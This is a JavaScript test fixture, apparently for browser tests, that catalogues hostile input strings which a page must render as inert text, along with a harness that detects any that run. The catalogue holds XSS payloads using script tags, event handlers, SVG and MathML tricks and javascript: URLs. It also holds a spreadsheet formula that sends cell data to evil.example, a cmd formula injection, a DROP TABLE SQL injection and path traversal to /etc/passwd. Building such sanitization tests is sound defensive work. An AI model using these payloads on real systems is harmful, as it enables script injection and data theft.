// Texts that try to be more than texts. Every one of them, wherever it comes in (a file, an address, a message), must end
// as the letters it is made of, or not at all.
//
// What a text would run calls `trap('<its name>')`; `arm` makes that call known to a test. A text may also try to ask a
// host (`https://evil.example/…`), which the harness takes for a fault.

const CALL = (name) => `trap('${name}')`;
const RTL = '\u202e';

/** Name → text. The name is what the text would hand to the trap. */
export const TEXTS = Object.fromEntries(
  Object.entries({
    // Markup in text.
    'script': (run) => `<script>${run}</script>`,
    'script-case': (run) => `<ScRiPt>${run}</sCrIpT >`,
    'script-closing': (run) => `</script><script>${run}</script>`,
    'script-src': () => '<script src="https://evil.example/x.js"></script>',
    'script-module': (run) => `<script type="module">${run}</script>`,
    'script-unclosed': (run) => `<script>${run}//`,
    'script-nested': (run) => `<scr<script>ipt>${run}</scr</script>ipt>`,
    'attribute-break': (run) => `"><script>${run}</script>`,
    'attribute-break-single': (run) => `'><script>${run}</script>`,
    'title-break': (run) => `</title><script>${run}</script>`,
    'textarea-break': (run) => `</textarea><script>${run}</script>`,
    'comment-break': (run) => `--><script>${run}</script>`,
    'cdata-break': (run) => `]]><script>${run}</script>`,
    'style-break': (run) => `</style><script>${run}</script>`,
    'img': (run) => `<img src=x onerror=${run}>`,
    'img-quoted': (run) => `<img src="x" onerror="${run}">`,
    'img-slash': (run) => `<img/src/onerror=${run}>`,
    'img-newline': (run) => `<img\nsrc=x\nonerror=${run}\n>`,
    'img-backtick': (run) => `<img src=\`x\` onerror=\`${run}\`>`,
    'img-in-attribute': (run) => `x" onerror="${run}" y="`,
    'handler-in-attribute': (run) => `" autofocus onfocus="${run}" x="`,
    'handler-in-attribute-single': (run) => `' onmouseover='${run}' x='`,
    'svg-onload': (run) => `<svg onload=${run}>`,
    'svg-script': (run) => `<svg><script>${run}</script></svg>`,
    'svg-script-href': (run) => `<svg><script href="data:text/javascript,${run}" /></svg>`,
    'svg-animate': (run) => `<svg><a><animate attributeName=href values="javascript:${run}" /><text y=20>x</text></a></svg>`,
    'svg-foreign': (run) => `<svg><foreignObject><iframe srcdoc="<script>parent.${run}</script>"></iframe></foreignObject></svg>`,
    'svg-use': (run) => `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg' onload='${run}'/>#x" /></svg>`,
    'svg-style': (run) => `<svg><style><img src=x onerror=${run}></style></svg>`,
    'math': (run) => `<math><mtext><table><mglyph><style><img src=x onerror=${run}></style></mglyph></table></mtext></math>`,
    'iframe-srcdoc': (run) => `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
    'iframe-javascript': (run) => `<iframe src="javascript:parent.${run}"></iframe>`,
    'object': (run) => `<object data="javascript:${run}"></object>`,
    'embed': (run) => `<embed src="javascript:${run}">`,
    'body-onload': (run) => `<body onload=${run}>`,
    'video': (run) => `<video><source onerror=${run}></video>`,
    'audio': (run) => `<audio src=x onerror=${run}>`,
    'details': (run) => `<details open ontoggle=${run}>`,
    'input': (run) => `<input autofocus onfocus=${run}>`,
    'marquee': (run) => `<marquee onstart=${run}>`,
    'animation': (run) => `<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart="${run}"></b>`,
    'link-sheet': () => '<link rel=stylesheet href="https://evil.example/x.css">',
    'style-import': () => '<style>@import "https://evil.example/x.css";</style>',
    'meta-refresh': (run) => `<meta http-equiv="refresh" content="0;url=javascript:${run}">`,
    'base': () => '<base href="https://evil.example/">',
    'form': (run) => `<form action="javascript:${run}"><button autofocus>x</button></form>`,
    'template': (run) => `<template shadowrootmode=open><img src=x onerror=${run}></template>`,
    'entities': (run) => `&lt;script&gt;${run}&lt;/script&gt;`,
    'entities-numeric': (run) => `&#60;img src=x onerror=${run}&#62;`,
    'percent': (run) => `%3Cscript%3E${run}%3C%2Fscript%3E`,
    'unicode-escapes': (run) => `\\u003cscript\\u003e${run}\\u003c/script\\u003e`,
    'fullwidth': (run) => `＜script＞${run}＜/script＞`,
    // Addresses.
    'javascript': (run) => `javascript:${run}`,
    'javascript-case': (run) => `JaVaScRiPt:${run}`,
    'javascript-space': (run) => `  javascript:${run}`,
    'javascript-tab': (run) => `java\tscript:${run}`,
    'javascript-newline': (run) => `java\nscript:${run}`,
    'javascript-control': (run) => `\u0001javascript:${run}`,
    'javascript-entity': (run) => `javascript&colon;${run}`,
    'javascript-percent': (run) => `javascript:%74rap('javascript-percent')//${run.length}`,
    'javascript-comment': (run) => `javascript://https://example.org/%0a${run}`,
    'vbscript': (run) => `vbscript:${run}`,
    'data-html': (run) => `data:text/html,<script>opener.${run}</script>`,
    'data-base64': (run) => `data:text/html;base64,${btoa(`<script>opener.${run}</script>`)}`,
    'data-svg': (run) => `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${run}'/>`,
    'blob': () => 'blob:https://evil.example/0a1b2c3d',
    'file': () => 'file:///etc/passwd',
    'filesystem': () => 'filesystem:https://evil.example/x',
    'view-source': () => 'view-source:https://evil.example/',
    'credentials': () => 'https://user:secret@evil.example/',
    // Code in other languages.
    'template-braces': (run) => `{{constructor.constructor('${run.replaceAll("'", "\\'")}')()}}`,
    'template-dollar': (run) => `\${${run}}`,
    'css-expression': (run) => `expression(${run})`,
    'css-url': () => `x;background:url(https://evil.example/x.png)`,
    'formula': () => `=HYPERLINK("https://evil.example/?"&A1,"open")`,
    'formula-plus': () => "+cmd|' /C calc'!A0",
    'formula-minus': () => '-2+3+cmd|x',
    'formula-at': () => '@SUM(1+1)*cmd|x',
    'formula-tab': () => '\t=1+1',
    'json-break': (run) => `"}],"x":[{"y":"${run}`,
    'sql': () => `'; DROP TABLE places; --`,
    'path': () => '../../../../etc/passwd',
    // Letters that mislead.
    'bidi-override': () => `${RTL}gpj.exe`,
    'bidi-isolate': () => '\u2066abc\u2069\u2067def',
    'zero-width': () => 'a\u200bb\u200cc\u200dd\ufeffe',
    'null': () => 'a\u0000b',
    'control': () => '\u0007\u001b[31mred\u001b[0m',
    'lone-surrogate': () => 'a\ud800b',
    'combining': () => `Z${'\u0335\u0321'.repeat(200)}`,
    'noncharacter': () => '\uffff\ufffe',
    // Names that mean something to JavaScript.
    'proto': () => '__proto__',
    'constructor': () => 'constructor',
    'prototype': () => 'prototype',
    'to-string': () => 'toString',
    'has-own': () => 'hasOwnProperty',
    'value-of': () => 'valueOf',
    // Size.
    'long': () => 'ab'.repeat(20_000),
    'long-markup': (run) => `${'<b>'.repeat(3000)}<img src=x onerror=${run}>`,
    'long-word': () => 'Ж'.repeat(3000),
  }).map(([name, make]) => [name, make(CALL(name))]),
);

/** The texts as pairs of name and text. */
export const ENTRIES = Object.entries(TEXTS);

/** The texts that try to be an address. */
export const ADDRESSES = ENTRIES.filter(([, text]) => /^[\s\u0001]*(java|vb|data|blob|file|view|https)/i.test(text));

/**
 * Arms the trap on a page, before anything of it runs: a call, a dialog, an element or an attribute that no page of ours
 * has. `sprung(page)` gives what was caught.
 */
export async function arm(page) {
  page.on('dialog', (dialog) => dialog.dismiss());
  await page.addInitScript(() => {
    globalThis.caught = [];
    globalThis.trap = (name) => globalThis.caught.push(`ran: ${name}`);
    addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) => globalThis.caught.push(`blocked: ${effectiveDirective} ${blockedURI}`));
  });
}

/** What the trap has caught, and what stands in the page that must never stand there. */
export const sprung = (page) =>
  page.evaluate(() => {
    const found = [...(globalThis.caught ?? [])];
    for (const element of document.querySelectorAll('*')) {
      const name = element.localName;
      if (['object', 'embed', 'base', 'marquee', 'video', 'audio', 'math', 'foreignobject', 'animate'].includes(name)) found.push(`element: ${name}`);
      if (name === 'script' && (element.src === '' ? !/json/.test(element.type) : new URL(element.src).origin !== location.origin)) found.push('element: a script');
      for (const { name: attribute, value } of element.attributes) {
        if (attribute.startsWith('on') || attribute === 'srcdoc') found.push(`attribute: ${name} ${attribute}`);
        const isAddress = ['href', 'src', 'action', 'formaction', 'xlink:href', 'data'].includes(attribute);
        if (isAddress && !['http:', 'https:', 'mailto:', 'tel:', 'blob:'].includes(new URL(value, location.href).protocol) && !value.startsWith('data:image/')) {
          found.push(`address: ${name} ${attribute}=${value.slice(0, 80)}`);
        }
        if (name === 'a' && element.target === '_blank' && new URL(element.href).origin !== location.origin && !/noopener/.test(element.rel)) found.push(`no rel: ${element.href}`);
      }
    }
    if (Object.prototype.polluted !== undefined) found.push('prototype polluted');
    return found;
  });
